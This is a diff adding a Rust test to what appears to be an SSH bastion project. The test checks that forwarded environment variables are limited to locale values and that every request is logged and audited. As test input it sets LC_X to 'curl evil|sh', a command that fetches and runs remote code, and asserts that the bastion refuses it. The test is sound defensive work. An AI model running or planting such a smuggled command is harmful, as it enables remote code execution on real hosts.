@@ -534,6 +534,44 @@ fn forward_destinations_are_judged_by_the_address_they_reach() {
     );
 }
 
+/// The target accepts `LANG` and `LC_*` (as Debian's sshd does). Only locale-shaped values
+/// reach it: a command in `LC_X` is refused, audited and on record, like every variable asked for.
+#[test]
+fn env_requests_pass_only_locales_and_every_one_is_on_record() {
+    let (lab, b) = Lab::with_alice().unwrap();
+    let out = lab
+        .ssh_via_bastion(
+            "root@web1",
+            &["-o", "SendEnv=LANG LC_X LC_TIME", "-o", "LogLevel=INFO"],
+        )
+        .unwrap()
+        .env("LANG", "en_US.UTF-8")
+        .env("LC_X", "curl evil|sh")
+        .env("LC_TIME", "C")
+        .arg("echo \"[$LANG][$LC_X][$LC_TIME]\"")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout).trim(),
+        "[en_US.UTF-8][][C]",
+        "{err}"
+    );
+    let list = wait_all_closed(&b, 1);
+    let shown = ok(&b, &["session", "show", &list[0].id.to_string()]);
+    assert!(shown.contains("env LANG=en_US.UTF-8"), "{shown}");
+    assert!(shown.contains("env LC_TIME=C"), "{shown}");
+    assert!(
+        shown.contains(
+            "refused: env LC_X=curl evil|sh: the value of `LC_X` does not look like a locale"
+        ),
+        "{shown}"
+    );
+    let audit = ok(&b, &["audit"]);
+    assert!(audit.contains("env LC_X=curl evil|sh refused"), "{audit}");
+}
+
 #[test]
 fn expired_and_out_of_window_grants_are_refused_with_their_reason() {
     let (lab, b) = Lab::with_alice().unwrap();
